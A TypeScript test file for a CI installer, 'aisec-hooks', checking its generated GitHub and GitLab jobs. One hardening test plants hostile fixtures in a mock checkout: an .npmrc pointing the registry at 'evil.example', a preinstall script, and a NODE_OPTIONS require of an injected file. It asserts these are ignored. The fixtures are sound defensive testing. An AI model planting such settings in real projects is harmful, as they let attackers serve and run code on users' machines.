/** The jobs that install writes, the action and the snippets of docs/ci.md: they parse, name this version, and read nothing of the checkout. */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { parse } from 'yaml';
import { judgeCommands, planCi } from '../lib/install/ci.ts';
import { Repo, done } from './install-repo.ts';

const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string };

async function written(engine: 'github' | 'gitlab', file: string): Promise<Record<string, never>> {
  const repo = new Repo();
  await done(planCi(repo.top, engine, version));
  assert.equal(await done(planCi(repo.top, engine, version)).then((said) => said.filter((line) => line.startsWith('wrote'))), [], 'nothing is written twice');
  return parse(repo.read(file)) as Record<string, never>;
}

test('the workflow for GitHub fetches everything, runs on edited descriptions, and judges', async () => {
  const workflow = await written('github', '.github/workflows/aisec.yml') as unknown as { on: { pull_request: { types: string[] } }; permissions: object; jobs: { aisec: { steps: { run?: string; with?: object }[] } } };
  assert.ok(workflow.on.pull_request.types.includes('edited'));
  assert.equal(workflow.permissions, { contents: 'read' });
  const { steps } = workflow.jobs.aisec;
  assert.equal(steps[0].with, { 'fetch-depth': 0, 'persist-credentials': false });
  assert.equal(steps.at(-1)!.run!.trimEnd().split('\n'), judgeCommands(version));
});

test('the job for GitLab is the same, and leaves a code quality report', async () => {
  const pipeline = await written('gitlab', '.gitlab/aisec.gitlab-ci.yml') as unknown as { aisec: { script: string[]; variables: object; artifacts: object } };
  assert.equal(pipeline.aisec.variables, { GIT_DEPTH: '0' });
  assert.equal(pipeline.aisec.script.slice(0, 2), judgeCommands(version).slice(0, 2));
  assert.match(pipeline.aisec.script[2], 'ci --format gitlab --output gl-code-quality-report.json --format terminal');
});

test('the action and the documents name this version', () => {
  const action = parse(readFileSync('action.yml', 'utf8')) as { runs: { using: string; steps: { env: Record<string, string> }[] } };
  assert.is(action.runs.using, 'composite');
  assert.is(action.runs.steps[0].env.AISEC_VERSION, version);
  const named = [...readFileSync('docs/ci.md', 'utf8').matchAll(/aisec-hooks@(\d[\w.]*)/g)].map(([, one]) => one);
  assert.ok(named.length >= 3);
  assert.equal(named.filter((one) => one !== version), []);
});

/** npm is a stand-in that tells where it runs and with what; what it "installs" is a judge that tells its own place. */
test('what the checkout brings is neither read nor run', () => {
  const root = mkdtempSync(path.join(os.tmpdir(), 'aisec-job-'));
  try {
    const checkout = path.join(root, 'checkout');
    const bin = path.join(root, 'bin');
    const own = path.join(checkout, 'node_modules/aisec-hooks/dist/bin');
    for (const folder of [bin, own]) mkdirSync(folder, { recursive: true });
    writeFileSync(path.join(checkout, '.npmrc'), 'registry=http://evil.example/\n');
    writeFileSync(path.join(checkout, 'package.json'), '{ "scripts": { "preinstall": "echo evil" } }');
    writeFileSync(path.join(own, 'aisec-hooks.js'), 'console.log("evil")');
    writeFileSync(path.join(checkout, 'evil.cjs'), 'console.log("evil")');
    const npm = '#!/bin/sh\necho "npm in $PWD: $*"\nls -a\nmkdir -p node_modules/aisec-hooks/dist/bin\necho \'console.log("judge", process.argv[2], process.cwd())\' >node_modules/aisec-hooks/dist/bin/aisec-hooks.js\n';
    writeFileSync(path.join(bin, 'npm'), npm, { mode: 0o755 });
    const env = { PATH: `${bin}:${process.env.PATH}`, TMPDIR: root, NODE_OPTIONS: '--require ./evil.cjs' };
    const { status, stdout, stderr } = spawnSync('sh', ['-ec', judgeCommands('1.2.3').join('\n')], { cwd: checkout, env, encoding: 'utf8' });
    assert.is(status, 0, stderr);
    assert.not.match(stdout, 'evil');
    assert.not.match(stdout, '.npmrc');
    assert.match(stdout, /^npm in (?!.*checkout).*--ignore-scripts --userconfig=\/dev\/null --registry=https:\/\/registry\.npmjs\.org\/ aisec-hooks@1\.2\.3$/m);
    assert.match(stdout, `judge ci ${checkout}`);
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test.run();
